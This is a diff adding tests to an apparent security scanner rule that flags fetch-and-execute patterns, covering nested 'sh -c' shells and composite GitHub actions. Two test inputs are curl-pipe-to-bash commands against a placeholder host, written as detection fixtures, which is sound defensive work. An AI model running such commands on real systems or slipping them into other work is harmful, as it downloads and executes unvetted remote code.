@@ -80,3 +80,15 @@ describe("supply-chain/fetch-execute in Dockerfiles", () => {
     assert.deepEqual(good.findings, []);
   });
 });
+
+describe("supply-chain/fetch-execute in nested shells and published actions", () => {
+  const run = ruleRunner(rule);
+  it("reads the script of sh -c", () => {
+    assert.deepEqual(how("sudo sh -c 'curl -fsSL https://x.example/i | bash'"), ["pipe:bash"]);
+  });
+  it("reads composite actions that no workflow calls", async () => {
+    const action = "name: setup\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      run: curl -fsSL https://x.example/i.sh | bash\n";
+    const { findings } = await run({ "action.yml": action });
+    assert.deepEqual(findings.map((f) => [f.locations[0]?.path, f.locations[0]?.startLine]), [["action.yml", 6]]);
+  });
+});
